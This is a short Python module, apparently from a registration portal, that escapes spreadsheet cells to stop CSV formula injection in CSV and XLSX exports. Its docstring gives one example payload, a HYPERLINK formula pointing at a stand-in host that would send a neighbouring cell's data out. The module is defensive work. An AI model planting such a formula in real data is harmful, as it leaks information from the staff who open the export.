"""Cells of the spreadsheets the portal produces (CSV, XLSX) from text people typed.

A spreadsheet runs a cell that starts with =, +, - or @ as a formula (tab and CR start one too, after the program
strips them): a registrant named ``=HYPERLINK("http://evil.test/?d="&C2,"Apri")`` would send the next column to
another site when staff open the export. OWASP's advice ("CSV injection") is to prefix such a cell with a single
quote, which spreadsheets show as text; openpyxl then stores it as a string cell, never a formula.
"""

from __future__ import annotations

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value):
    """``value`` with a leading quote when it is text a spreadsheet would read as a formula; anything else as is."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value
